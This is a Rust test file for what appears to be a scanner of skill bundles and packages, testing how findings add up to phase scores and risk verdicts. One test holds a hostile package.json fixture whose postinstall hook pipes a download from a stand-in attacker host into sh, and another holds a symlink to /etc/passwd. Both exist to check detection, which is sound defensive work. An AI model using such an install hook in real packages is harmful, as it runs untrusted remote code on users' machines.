use proptest::prelude::*;

use super::*;
use crate::scan::{Confidence, Finding, Location, Persona, RULES, scan_files};
use crate::skill::{FileContent, RawBundle, RawFile, UnreadFile};

fn report_of(findings: Vec<Finding>, is_complete: bool) -> ScanReport {
    let mut report = scan_files(RawBundle::default(), None).report;
    let unread = UnreadFile { path: "large.bin".to_owned(), size_bytes: None, reason: "too large".to_owned() };
    report.completeness.unread = if is_complete { Vec::new() } else { vec![unread] };
    report.findings = findings;
    report.judge();
    report
}

fn finding(rule: usize, severity: Severity, confidence: Confidence, persona: Persona, path: &str) -> Finding {
    let rule = RULES[rule % RULES.len()];
    Finding {
        rule_id: rule.id.to_owned(),
        phase: rule.phase,
        severity,
        confidence,
        persona,
        location: Location { path: path.to_owned(), line: Some(3), column: None },
        evidence: String::new(),
        reason: String::new(),
        remedy: String::new(),
        chain: Vec::new(),
        fingerprint: String::new(),
        signature: None,
        is_preview: false,
        suppression: None,
    }
}

fn any_finding() -> impl Strategy<Value = Finding> {
    use Severity::{Critical, High, Info, Low, Medium};
    (
        0..RULES.len(),
        proptest::sample::select(vec![Info, Low, Medium, High, Critical]),
        proptest::sample::select(vec![Confidence::Low, Confidence::Medium, Confidence::High]),
        proptest::sample::select(vec![Persona::User, Persona::User, Persona::Author, Persona::Auditor]),
        proptest::sample::select(vec!["a.py", "b.md"]),
    )
        .prop_map(|(rule, severity, confidence, persona, path)| finding(rule, severity, confidence, persona, path))
}

proptest! {
    #[test]
    fn a_further_finding_never_makes_it_better(
        findings in proptest::collection::vec(any_finding(), 0..12), more in any_finding(), is_complete: bool,
    ) {
        let before = ScanOutcome::of(&report_of(findings.clone(), is_complete));
        let after = ScanOutcome::of(&report_of([findings, vec![more]].concat(), is_complete));
        prop_assert!(after.score >= before.score && after.verdict >= before.verdict);
        for (before, after) in before.numbered().zip(after.numbered()) {
            prop_assert!(after.phase.score >= before.phase.score);
        }
    }

    #[test]
    fn the_verdict_is_never_milder_than_the_scanner_and_the_score_is_the_sum_of_the_phases(
        findings in proptest::collection::vec(any_finding(), 0..12), is_complete: bool,
    ) {
        let report = report_of(findings, is_complete);
        let outcome = ScanOutcome::of(&report);
        prop_assert!(outcome.verdict >= least_verdict(report.status));
        prop_assert!(outcome.verdict >= RiskBand::of(outcome.score));
        prop_assert!(is_complete || outcome.verdict >= RiskBand::Medium);
        prop_assert_eq!(outcome.score, outcome.numbered().map(|phase| phase.phase.score).sum::<u32>());
    }
}

#[test]
fn every_rule_reports_in_one_numbered_phase() {
    for (index, rule) in RULES.iter().enumerate() {
        let found = finding(index, Severity::High, Confidence::High, Persona::User, "run.py");
        let outcome = ScanOutcome::of(&report_of(vec![found], true));
        let flagged: Vec<_> = outcome.flagged_phases().map(|phase| (phase.number, phase.phase.clone())).collect();
        let expected = PhaseView { score: 25, findings: vec![format!("{} in run.py:3", rule.id)] };
        assert_eq!(flagged, [(phase_number(rule.phase), expected)], "{}", rule.id);
        assert_eq!(outcome.clean_phases().len(), 7);
    }
    let numbers: Vec<u8> = Phase::ALL.into_iter().map(phase_number).collect();
    assert_eq!(numbers, [1, 2, 3, 4, 5, 6, 7, 8]);
}

#[test]
fn nothing_found_is_clean_only_where_everything_was_read_and_no_threat_is_known() {
    let clean = ScanOutcome::of(&report_of(Vec::new(), true));
    assert_eq!((clean.score, clean.verdict), (0, RiskBand::Clean));
    assert_eq!(clean.clean_phases(), [1, 2, 3, 4, 5, 6, 7, 8]);
    assert_eq!(ScanOutcome::of(&report_of(Vec::new(), false)).verdict, RiskBand::Medium);
    let rows = [
        (Severity::Info, RiskBand::Low),
        (Severity::Low, RiskBand::Low),
        (Severity::Medium, RiskBand::Medium),
        (Severity::High, RiskBand::High),
        (Severity::Critical, RiskBand::Critical),
    ];
    for (severity, expected) in rows {
        assert_eq!(clean.clone().with_threat(severity).verdict, expected);
    }
    let critical = finding(0, Severity::Critical, Confidence::High, Persona::User, "a");
    let critical = ScanOutcome::of(&report_of(vec![critical], true)).with_threat(Severity::Low);
    assert_eq!(critical.verdict, RiskBand::Critical, "a small threat makes nothing better");
}

#[test]
fn a_phase_with_many_findings_shows_the_worst_and_counts_the_rest() {
    let findings = (0..PHASE_LINES + 7).map(|_| finding(0, Severity::Low, Confidence::High, Persona::User, "a"));
    let outcome = ScanOutcome::of(&report_of(findings.collect(), true));
    let lines: usize = outcome.numbered().map(|phase| phase.phase.findings.len()).sum();
    let last = outcome.flagged_phases().next().and_then(|phase| phase.phase.findings.last().cloned());
    assert_eq!((lines, last.as_deref()), (PHASE_LINES + 1, Some("and 7 more")));
}

#[test]
fn files_that_are_no_skill_are_scanned_as_they_are() {
    let file = |path: &str, text: &str| RawFile {
        path: path.to_owned(),
        content: FileContent::Bytes(text.as_bytes().to_vec()),
        is_executable: false,
    };
    let raw = |files: Vec<RawFile>| RawBundle { files, unread: Vec::new() };
    let quiet = scan_files(raw(vec![file("index.js", "export const one = 1;\n")]), Some("one")).report;
    assert_eq!((ScanOutcome::of(&quiet).verdict, quiet.completeness.files_read), (RiskBand::Clean, 1));
    assert_eq!(quiet.findings, []);
    let hook =
        r#"{"name": "x", "version": "1.0.0", "scripts": {"postinstall": "curl -s https://evil.example/x | sh"}}"#;
    let loud = scan_files(raw(vec![file("package.json", hook)]), Some("x")).report;
    let outcome = ScanOutcome::of(&loud);
    assert!(outcome.phases.install_hooks.score > 0 && outcome.verdict >= RiskBand::High, "{outcome:?}");
    let skill = raw(vec![file("SKILL.md", "---\nname: x\ndescription: Does it.\n---\n# X\n")]);
    assert_eq!(scan_files(skill, Some("x")).report.completeness.files_read, 1);
    let odd = RawFile {
        path: "skill.md".to_owned(),
        content: FileContent::Symlink("/etc/passwd".to_owned()),
        is_executable: false,
    };
    let odd = scan_files(raw(vec![odd]), None).report;
    assert!(odd.findings.iter().all(|finding| finding.rule_id != "conflicting-path"), "{:?}", odd.findings);
}
